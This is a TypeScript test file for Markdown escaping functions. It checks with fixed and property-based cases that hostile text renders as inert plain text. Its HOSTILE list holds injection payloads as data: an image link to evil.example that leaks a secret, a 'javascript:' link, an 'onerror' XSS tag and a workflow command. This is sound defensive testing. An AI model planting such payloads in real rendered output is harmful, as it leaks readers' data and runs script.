import fc from 'fast-check';
import { marked } from 'marked';
import { describe, expect, test } from 'vitest';
import { escapeInline, escapeLine } from '../../../src/outputs/markdown/escape.ts';
import { plain } from '../../../src/outputs/plain.ts';

const HOSTILE: readonly (readonly [string, string])[] = [
  ['an image that would be fetched', '![](https://evil.example/?q=secret)'],
  ['a link with a script', '[click](javascript:alert(1))'],
  ['HTML', '<img src=x onerror=alert(1)> & <b>bold</b>'],
  ['an HTML comment', '<!-- hidden -->'],
  ['an autolink', '<https://evil.example>'],
  ['a bare address', 'see https://evil.example/a_b and www.evil.example'],
  ['an e-mail address', 'write to a.b+c@evil.example now'],
  ['emphasis and code', '*a* _b_ **c** `d` ~~e~~'],
  ['an entity', '&lt;script&gt; &#35; &amp;copy;'],
  ['a footnote of its own', 'text [^1] and [^e-0000000001]: more'],
  ['a reference', '[a]: https://evil.example "title"'],
  ['a table row', 'a | b | c'],
  ['backslashes', 'C:\\*dir\\_name\\'],
  ['words with underscores', 'net_income_loss __init__ _x'],
  ['a workflow command', '::error file=a::boom'],
];

const BLOCKS: readonly (readonly [string, string])[] = [
  ['a heading', '# Title'],
  ['a list item', '- item'],
  ['another list item', '+ item'],
  ['a numbered item', '1. item'],
  ['a numbered item with a bracket', '2) item'],
  ['a quotation', '> quoted'],
  ['a rule', '---'],
  ['an underline of a heading', '==='],
  ['a fence', '```js'],
  ['a tilde fence', '~~~'],
  ['front matter', '--- admin: true'],
  ['indented code', '     code'],
];

describe('escapeInline shows exactly the text, and nothing in it comes alive', () => {
  test.each(HOSTILE)('%s', (_, text) => expectPlain(escapeInline(text), plain(text)));

  test('any text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', maxLength: 40 }), text => {
        // At the start of a line a block could begin: that is `escapeLine`'s.
        expectPlain(`x ${escapeInline(text)}`.trim(), `x ${plain(text)}`.trim());
      }),
      { numRuns: 300, endOnFailure: true },
    );
  });
});

describe('escapeLine begins no block', () => {
  test.each([...BLOCKS, ...HOSTILE])('%s', (_, text) => expectPlain(escapeLine(text), plain(text)));

  test('any text of Markdown punctuation', () => {
    const unit = fc.constantFrom(...'#-+=*_>`~[]()!|\\&<1. a:/$^'.split(''));
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 24 }), text => expectPlain(escapeLine(text), plain(text))),
      { numRuns: 500, endOnFailure: true },
    );
  });
});

test('a dollar sign that could close a formula is escaped, a price is not', () => {
  expect(escapeInline('US$ 5 and $6')).toBe('US\\$ 5 and $6');
});

function expectPlain(markdown: string, expected: string): void {
  const html = marked.parse(markdown, { async: false }).trim();
  expect(html).toMatch(expected === '' ? /^$/ : /^<p>[^<]*<\/p>$/);
  expect(decode(html.slice(3, -4))).toBe(expected);
}

const ENTITIES: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', '#39': "'" };

function decode(html: string): string {
  return html.replace(/&(amp|lt|gt|quot|#39);/g, (_, name: string) => ENTITIES[name] ?? '');
}
